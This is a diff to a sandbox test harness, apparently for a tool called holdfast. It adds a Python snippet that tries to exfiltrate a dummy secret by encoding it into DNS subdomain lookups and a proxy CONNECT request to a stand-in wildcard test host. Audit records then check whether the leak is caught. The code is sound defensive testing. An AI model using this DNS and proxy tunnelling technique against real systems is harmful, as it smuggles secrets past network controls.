@@ -8,6 +8,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { createInterface } from "node:readline";
 import { promisify } from "node:util";
+import { Audit } from "../../lib/audit/audit.ts";
 import { Sandbox } from "../../lib/sandbox/sandbox.ts";
 import { runnable, sound } from "../policy/policy-text.ts";
 import { startNameServer } from "./name-server.ts";
@@ -53,15 +54,33 @@ unixLines.on("line", (line) => hear(Buffer.from(line)));
 const workdir = mkdtempSync(join(tmpdir(), "holdfast-exfiltration-"));
 chmodSync(workdir, 0o777);
 if (process.getuid?.() === 0) chownSync(workdir, 1000, 1000);
+/** Known to the launcher; in a name it would leave by a question, before anybody connects. */
+const held = "Held-Key-0042x";
+process.env["HOLDFAST_TEST_HELD"] = held;
+const records: Record<string, unknown>[] = [];
+const audit = new Audit({ write: (line) => void records.push(JSON.parse(line)), close: () => {} });
 const policy = sound(`${runnable(join(import.meta.dirname, "programs"))}dns: { servers: ["${addresses.api}"] }
 network_policies:
   one:
-    endpoints: [{ host: api.example.test, port: 7, protocol: tcp }, { host: "*.wild.example.test", port: 7, protocol: tcp }]
+    endpoints: [{ host: api.example.test, port: 7, protocol: tcp }, { host: "*.wild.example.test", port: 7, protocol: tcp }, { host: api.example.test, port: 443, protocol: rest, access: full, enforcement: enforce }]
     binaries: [{ path: /usr/bin/python3* }]
+credentials:
+  held: { source: { env: HOLDFAST_TEST_HELD }, env: HELD, endpoints: [{ host: api.example.test }], binaries: [{ path: /usr/bin/true }] }
 `);
 const attempts = [join(import.meta.dirname, "programs", "carry-out.py"), addresses.api, abstract];
 const permitted =
   'import socket; s = socket.create_connection(("api.example.test", 7)); s.sendall(b"secret permitted"); s.recv(1)';
+const hexHeld = Buffer.from(held).toString("hex");
+const byName = `import os, socket
+for name in ["fine", ${JSON.stringify(held)}, ${JSON.stringify(hexHeld)}, os.environ.get("HELD", "none")]:
+    try:
+        s = socket.create_connection((name + ".wild.example.test", 7)); s.sendall(b"named"); s.recv(1)
+    except OSError:
+        print("refused")
+proxy = os.environ["HTTPS_PROXY"].split("//")[1].split(":")
+s = socket.create_connection((proxy[0], int(proxy[1])))
+s.sendall(b"CONNECT ${hexHeld}.wild.example.test:7 HTTP/1.1\\r\\n\\r\\n")
+print(s.recv(12).decode())`;
 const results: Record<string, unknown> = {};
 /** What has arrived, once a word that is sent last has. */
 async function arrived(said: string): Promise<unknown> {
@@ -82,10 +101,19 @@ async function arrived(said: string): Promise<unknown> {
 }
 try {
   for (const mode of ["namespaces", "landlock"] as const) {
-    await using sandbox = await Sandbox.create({ workdir, policy, mode });
+    await using sandbox = await Sandbox.create({ workdir, policy, mode, audit, proxyEnv: true });
     const { stdout, stderr } = await sandbox.exec("python3", attempts);
     const { stderr: fault } = await sandbox.exec("python3", ["-c", permitted]);
     results[mode] = await arrived(`${stdout}${stderr}${fault}`);
+    const before = names.questions.length;
+    records.length = 0;
+    const named = await sandbox.exec("python3", ["-c", byName]);
+    results[`${mode} by name`] = {
+      asked: [...new Set(names.questions.slice(before))],
+      said: `${named.stdout}${named.stderr}`,
+      leaks: records.filter(({ type }) => type === "leak.found"),
+      told: JSON.stringify([records, named.denials]),
+    };
   }
   const { stdout } = await promisify(execFile)("python3", attempts);
   results["outside"] = await arrived(stdout);
